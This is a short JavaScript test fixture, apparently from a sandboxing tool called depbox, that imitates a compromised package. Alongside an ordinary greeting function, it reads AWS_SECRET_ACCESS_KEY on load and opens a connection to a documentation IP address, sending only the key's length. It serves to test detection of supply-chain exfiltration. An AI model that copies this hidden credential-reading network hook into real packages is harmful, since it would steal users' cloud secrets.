// TEST FIXTURE imitating a compromised release. It only ever runs inside
// depbox's gVisor sandbox (--network=none, fresh network namespace) and only
// contacts a documentation address (192.0.2.10, TEST-NET-1).
const net = require('net');
const key = process.env.AWS_SECRET_ACCESS_KEY || '';
const s = net.connect({ host: '192.0.2.10', port: 443 });
s.on('error', () => {});
s.on('connect', () => { s.end(String(key.length)); });
module.exports = (name) => 'Hello, ' + (name || 'world') + '!';
